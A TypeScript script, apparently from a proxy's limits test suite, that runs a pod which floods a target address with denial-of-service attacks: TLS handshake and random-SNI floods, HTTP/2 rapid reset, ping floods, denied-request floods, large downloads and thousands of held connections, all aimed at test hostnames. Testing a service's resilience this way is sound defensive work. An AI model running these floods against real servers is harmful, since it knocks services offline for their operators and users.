/** `node attacker.ts KIND ADDRESS`: one pod that attacks as fast as it can until it is killed. Runs in the pod's namespace. */
import {connect as netConnect, type Socket} from 'node:net';
import {connect as tlsConnect} from 'node:tls';
import {get, headers, ping, PREFACE, rst, settings} from '../limits/frames.ts';

const [, , kind, host] = process.argv;
if (kind === undefined || host === undefined) throw new Error('attacker.ts KIND ADDRESS');

/** Attackers side by side. */
const SIDE_BY_SIDE = 50;
const ignore = (): void => undefined;
const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    socket.on('error', ignore);
    socket.once('close', () => resolve());
  });

function tls(servername: string, protocol: string): Promise<Socket | null> {
  const socket = tlsConnect({host, port: 443, servername, ALPNProtocols: [protocol], rejectUnauthorized: false});
  socket.on('error', ignore);
  return new Promise((resolve) => {
    socket.once('secureConnect', () => resolve(socket));
    socket.once('close', () => resolve(null));
  });
}

/** Frames on one HTTP/2 connection after another, each until the proxy ends it. */
async function flood(frames: (stream: number) => Buffer): Promise<void> {
  const socket = await tls('site.test', 'h2');
  if (socket === null) return;
  socket.resume();
  socket.write(Buffer.concat([PREFACE, settings()]));
  let stream = 1;
  const more = (): void => {
    while (!socket.destroyed && socket.write(Buffer.concat(Array.from({length: 100}, () => frames((stream += 2)))))) {
      if (stream > 40_000) return void socket.destroy();
    }
  };
  socket.on('drain', more);
  more();
  await closed(socket);
}

let names = 0;
const block = get('site.test', '/ok/a');
const DENIED = 'GET /no HTTP/1.1\r\nHost: site.test\r\n\r\n'.repeat(50);

const attacks: Record<string, () => Promise<void>> = {
  async handshakes() {
    (await tls('site.test', 'http/1.1'))?.destroy();
  },
  async 'random names'() {
    (await tls(`n${process.pid}-${names++}.wild.test`, 'http/1.1'))?.destroy();
  },
  'rapid reset': () => flood((stream) => Buffer.concat([headers(stream, block), rst(stream)])),
  'ping flood': () => flood(ping),
  async 'denied requests'() {
    const socket = await tls('site.test', 'http/1.1');
    if (socket === null) return;
    socket.on('data', () => socket.write(DENIED));
    socket.write(DENIED);
    await closed(socket);
  },
  async downloads() {
    const socket = await tls('site.test', 'http/1.1');
    if (socket === null) return;
    socket.resume();
    socket.write('GET /ok/big HTTP/1.1\r\nHost: site.test\r\n\r\n');
    await closed(socket);
  },
  async 'connections held'() {
    const socket = netConnect({host, port: 80});
    socket.write('GET /ok/a HTTP/1.1\r\nHost: site.test\r\n\r\n');
    await closed(socket.resume());
  },
};

const attack = attacks[kind];
if (attack === undefined) throw new Error(`the attacks are ${Object.keys(attacks).join(', ')}`);
const sideBySide = kind === 'connections held' ? 4_200 : SIDE_BY_SIDE;
for (let i = 0; i < sideBySide; i++)
  void (async () => {
    for (;;) {
      await attack();
      await new Promise((resolve) => setImmediate(resolve));
    }
  })();
